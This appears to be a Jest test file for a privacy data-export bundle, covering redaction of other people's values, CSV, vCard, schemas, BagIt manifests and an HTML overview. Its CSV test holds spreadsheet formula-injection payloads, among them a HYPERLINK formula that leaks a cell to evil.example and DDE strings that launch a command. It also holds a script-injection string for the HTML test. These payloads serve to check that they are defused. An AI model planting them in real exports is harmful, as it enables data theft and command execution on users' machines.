/** The pure parts of a bundle: redaction of other people's values, CSV, vCard, schemas, BagIt tag files, HTML. */
import Ajv2020 from 'ajv/dist/2020';
import { parse as parseCsv } from 'csv-parse/sync';
import ICAL from 'ical.js';
import { createHash } from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { checkBag, manifestText, parseBagInfo, parseManifest, payloadOxum } from '../../functions/core/bundle/bagit';
import { flatten, stableColumns, toCsv } from '../../functions/core/bundle/csv';
import { escapeHtml, renderOverviewHtml } from '../../functions/core/bundle/html';
import { overviewOf, storeOverview } from '../../functions/core/bundle/overview';
import { OthersRedactor } from '../../functions/core/bundle/redact';
import { inferSchema, OVERVIEW_SCHEMA, storeFileSchema } from '../../functions/core/bundle/schema';
import { contactFields, foldLine, vcards } from '../../functions/core/bundle/vcard';
import { parseDataMap, type Store } from '../../functions/core/datamap';
import { DEFAULT_SCHEDULE, ruleFor } from '../../functions/core/retention';

const dataMap = parseDataMap(JSON.parse(fs.readFileSync(path.join(__dirname, '../../examples/voip-operator/datamap.json'), 'utf8')));
const store = (name: string): Store => dataMap.stores.find((s) => s.name === name)!;
const identity = { subjectId: ['cust-3'], accountId: ['cust-3'], phone: ['+15145550103', '+15145550199'], email: ['jean@example.ca'], sipUsername: ['1003_jean'], ip: ['198.51.100.7'], deviceId: ['dev-3a'] };

function ical(text: string): ICAL.Component[] {
  const parsed = ICAL.parse(text) as unknown[];
  const list = (Array.isArray(parsed[0]) ? parsed : [parsed]) as unknown[][];
  return list.map((p) => new ICAL.Component(p));
}

describe('OthersRedactor', () => {
  it('masks the other party of the subject\'s own call record and keeps the subject\'s number', () => {
    const r = new OthersRedactor(identity);
    const out = r.record(store('call-records'), 'owner', {
      accountId: 'cust-3',
      callId: 'c-1',
      callerNumber: '+15145550103',
      calleeNumber: '+14165550111',
      startTime: '2026-10-01T10:00:00.000Z',
      deviceId: 'dev-3a',
    });
    expect(out).toMatchObject({ accountId: 'cust-3', callerNumber: '+15145550103', calleeNumber: '[REDACTED phone #1]', startTime: '2026-10-01T10:00:00.000Z', deviceId: 'dev-3a' });
    // An inbound leg: the caller is someone else, in a field the data map does not declare.
    const inbound = r.record(store('call-records'), 'owner', { accountId: 'cust-3', callerNumber: '+14165550111', calleeNumber: '+15145550199' });
    expect(inbound).toMatchObject({ callerNumber: '[REDACTED phone #1]', calleeNumber: '+15145550199' });
    expect(r.masked).toBe(2);
  });

  it('masks a contact who is someone else (name included) and keeps the subject\'s own entry', () => {
    const r = new OthersRedactor(identity);
    const other = r.record(store('contacts'), 'owner', { ownerAccountId: 'cust-3', contactId: 'ct-1', contactName: 'Marie Roy', contactPhone: '+15145550177', contactEmail: 'marie@example.org', label: 'mobile' });
    expect(other).toEqual({ ownerAccountId: 'cust-3', contactId: 'ct-1', contactName: '[REDACTED #1]', contactPhone: '[REDACTED phone #1]', contactEmail: '[REDACTED email #1]', label: 'mobile' });
    const self = { ownerAccountId: 'cust-3', contactId: 'ct-2', contactName: 'Moi', contactPhone: '+15145550103', contactEmail: 'Jean@Example.ca' };
    expect(r.record(store('contacts'), 'owner', self)).toEqual(self);
  });

  it('masks the other side of a SIP dialog and other people\'s e-mail addresses in log text', () => {
    const r = new OthersRedactor(identity);
    const sip = r.record(store('sip-logs'), 'owner', {
      ts: '2026-10-30T08:00:00.000Z',
      from: '"Jean T" <sip:+15145550103@pbx.voip.example>;tag=ab12',
      to: '"Marie Roy" <sip:+15145550177@pbx.voip.example>',
      sipUser: '1003_jean',
      sourceIp: '10.20.0.4',
      userAgent: { name: 'Yealink T46U', deviceId: 'dev-9z' },
    });
    expect(sip).toMatchObject({
      from: '"Jean T" <sip:+15145550103@pbx.voip.example>;tag=ab12',
      to: '[REDACTED phone #1]',
      sipUser: '1003_jean',
      sourceIp: '[REDACTED ip #1]',
      userAgent: { name: 'Yealink T46U', deviceId: '[REDACTED deviceId #1]' },
    });
    const app = r.record(store('app-logs'), 'owner', { timestamp: '2026-10-30T09:00:00Z', accountId: 'cust-3', email: 'agent.4@support.voip.example', clientIp: '198.51.100.7', message: 'ticket #4411 reply sent to jean@example.ca (cc bob@example.com)' });
    expect(app).toMatchObject({ accountId: 'cust-3', email: '[REDACTED email #1]', clientIp: '198.51.100.7', message: 'ticket #4411 reply sent to jean@example.ca (cc [REDACTED email #2])' });
  });

  it('leaves dates, MAC addresses and the subject\'s own account alone', () => {
    const r = new OthersRedactor(identity);
    const device = { accountId: 'cust-3', deviceId: 'dev-3a', mac: '00:1A:2B:3C:4D:5E', lastIp: '198.51.100.7', registeredAt: '2025-01-02T03:04:05.000Z', firmware: '2.0.1.4' };
    expect(r.record(store('devices'), 'owner', device)).toEqual(device);
    expect(r.masked).toBe(0);
  });
});

describe('CSV', () => {
  it('flattens nested objects into dotted columns, keeps a stable column order and round-trips through csv-parse', () => {
    const a = flatten({ id: 'x', address: { city: 'Montréal', street: '1, rue "Sainte"\nApp. 2' }, phones: ['+1', '+2'], n: 4, ok: true, none: null });
    const b = flatten({ id: 'y', extra: 'only here' });
    const columns = stableColumns([b, a], ['id']);
    expect(columns).toEqual(['id', 'address.city', 'address.street', 'extra', 'n', 'none', 'ok', 'phones']);
    expect(stableColumns([a, b], ['id'])).toEqual(columns);
    const text = toCsv(columns, [a, b]);
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text, { columns: true }) as Record<string, string>[];
    expect(rows[0]).toEqual({ id: 'x', 'address.city': 'Montréal', 'address.street': '1, rue "Sainte"\nApp. 2', extra: '', n: '4', none: '', ok: 'true', phones: '["+1","+2"]' });
    expect(rows[1].extra).toBe('only here');
  });

  it('defuses cells a spreadsheet would run as a formula, and leaves numbers and phone numbers alone', () => {
    const cells = {
      hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
      dde: "+cmd|' /C calc'!A0",
      minus: '-2+3+cmd|x',
      at: '@SUM(1+1)*cmd|x',
      tab: '\t=1+1',
      phone: '+15145550101',
      dialled: '+1 (514) 555-0101',
      negative: '-12.5',
      plain: 'a = b',
    };
    const text = toCsv(Object.keys(cells), [cells]);
    const [row] = parseCsv(text, { columns: true }) as Record<string, string>[];
    expect(row).toEqual({
      hyperlink: `'${cells.hyperlink}`,
      dde: `'${cells.dde}`,
      minus: `'${cells.minus}`,
      at: `'${cells.at}`,
      tab: `'${cells.tab}`,
      phone: '+15145550101',
      dialled: '+1 (514) 555-0101',
      negative: '-12.5',
      plain: 'a = b',
    });
  });
});

describe('vCard 4.0', () => {
  it('writes cards ical.js parses, with folded UTF-8 lines, escaped text and no masked values', () => {
    const contacts = store('contacts');
    const records = [
      { ownerAccountId: 'cust-3', contactId: 'ct-1', contactName: 'Moi, Jean; « le Québécois » '.repeat(4), contactPhone: '+15145550103', contactEmail: 'jean@example.ca', label: 'home' },
      { ownerAccountId: 'cust-3', contactId: 'ct-2', contactName: '[REDACTED #1]', contactPhone: '[REDACTED phone #1]', label: 'mobile' },
    ];
    const fields = contactFields(contacts, records);
    expect(fields).toMatchObject({ phones: ['contactPhone'], emails: ['contactEmail'], name: 'contactName', label: 'label', uid: 'contactId' });
    const text = vcards(records, fields);
    for (const line of text.split('\r\n')) expect(Buffer.byteLength(line)).toBeLessThanOrEqual(75);
    const cards = ical(text);
    expect(cards).toHaveLength(2);
    expect(cards[0].getFirstPropertyValue('version')).toBe('4.0');
    expect(cards[0].getFirstPropertyValue('fn')).toBe(records[0].contactName);
    expect(cards[0].getFirstPropertyValue('tel')).toBe('tel:+15145550103');
    expect(cards[0].getFirstProperty('tel')!.getParameter('type')).toBe('home');
    expect(cards[0].getFirstPropertyValue('email')).toBe('jean@example.ca');
    expect(cards[1].getFirstPropertyValue('tel')).toBeNull();
    expect(foldLine('x'.repeat(150)).split('\r\n ').map((l) => l.length)).toEqual([75, 74, 1]);
  });
});

describe('JSON Schemas', () => {
  it('infers a schema every record satisfies and that rejects a changed type or an extra field', () => {
    const records = [{ a: 1, b: 'x', c: { d: [1, 2.5] } }, { a: 2, b: null }];
    const schema = storeFileSchema({ store: 's', file: 's.json', records: inferSchema(records) });
    const ajv = new Ajv2020({ allErrors: true, strict: false });
    const validate = ajv.compile(schema);
    const doc = { store: 's', category: 'billing', description: null, generatedAt: 'now', records: records.map((data) => ({ role: 'owner', data })), files: [], missing: [] };
    expect(validate(doc)).toBe(true);
    expect(validate({ ...doc, records: [{ role: 'owner', data: { a: 'one', b: 'x' } }] })).toBe(false);
    expect(validate({ ...doc, records: [{ role: 'owner', data: { a: 1, b: 'x', z: 1 } }] })).toBe(false);
    expect(inferSchema([1, 2.5])).toEqual({ type: 'number' });
    expect(inferSchema([])).toEqual({});
  });

  it('describes the overview', () => {
    const overview = overviewOf({ requestId: 'r', type: 'portability', generatedAt: 'now', planHash: 'a'.repeat(64), operator: null, stores: [], failedStores: [] });
    expect(new Ajv2020({ strict: false }).compile(OVERVIEW_SCHEMA)(overview)).toBe(true);
    expect(overview.empty).toBe(true);
  });
});

describe('BagIt tag files', () => {
  const files = new Map([
    ['data/a.txt', { size: 3, sha256: '1'.repeat(64) }],
    ['data/b c%.txt', { size: 4, sha256: '2'.repeat(64) }],
  ]);
  const manifest = manifestText([...files].map(([p, f]) => ({ path: p, ...f })));
  const info = `Payload-Oxum: ${payloadOxum([...files.values()])}\n`;

  it('writes manifests with encoded paths and a Payload-Oxum that checkBag accepts', () => {
    expect(manifest).toContain(`${'2'.repeat(64)}  data/b c%25.txt\n`);
    expect(parseManifest(manifest, 'm').entries.map((e) => e.path)).toEqual(['data/a.txt', 'data/b c%.txt']);
    expect(parseBagInfo(info).get('Payload-Oxum')).toEqual(['7.2']);
    const tags = new Map([
      ['bagit.txt', 'BagIt-Version: 1.0\nTag-File-Character-Encoding: UTF-8\n'],
      ['manifest-sha256.txt', manifest],
      ['bag-info.txt', info],
    ]);
    const all = new Map(files);
    const tagManifest = manifestText([...tags].map(([p, t]) => ({ path: p, size: t.length, sha256: createHash('sha256').update(t).digest('hex') })));
    for (const [p, t] of tags) all.set(p, { size: t.length, sha256: createHash('sha256').update(t).digest('hex') });
    tags.set('tagmanifest-sha256.txt', tagManifest);
    expect(checkBag(all, (p) => tags.get(p))).toEqual([]);

    const altered = new Map(all);
    altered.set('data/a.txt', { size: 3, sha256: '9'.repeat(64) });
    altered.set('data/new.txt', { size: 1, sha256: '3'.repeat(64) });
    const problems = checkBag(altered, (p) => tags.get(p));
    expect(problems).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^data\/a\.txt: SHA-256 does not match manifest-sha256\.txt/),
        expect.stringMatching(/^data\/new\.txt: not listed in manifest-sha256\.txt/),
        expect.stringMatching(/^bag-info\.txt: Payload-Oxum is 7\.2, the payload is 8\.3/),
      ]),
    );
  });
});

describe('index.html', () => {
  it('escapes every value, loads nothing from the network and says when there is no data', () => {
    const s = store('contacts');
    const evil = { ...s, description: '<script>alert(1)</script>' } as Store;
    const ov = storeOverview({ store: evil, exported: { store: 'contacts', records: [], files: [], missing: [{ findingId: 'f'.repeat(64), reason: 'version-gone' }] }, slice: undefined, rule: ruleFor(DEFAULT_SCHEDULE, s) });
    const html = renderOverviewHtml(overviewOf({ requestId: 'req-"1"', type: 'portability', generatedAt: '2026-11-02T12:00:00.000Z', planHash: 'a'.repeat(64), operator: 'A & B <Telecom>', stores: [ov], failedStores: [] }));
    expect(html).not.toMatch(/<script/i);
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(html).toContain('A &amp; B &lt;Telecom&gt;');
    expect(html).toContain('req-&quot;1&quot;');
    expect(html).toContain("default-src 'none'");
    expect(html).not.toMatch(/(src|href)="(https?:)?\/\//i);
    expect(html).toContain('We found no data about you');
    expect(html).toContain('deleted after it was found');
    expect(escapeHtml(`'"<>&`)).toBe('&#39;&quot;&lt;&gt;&amp;');
  });
});
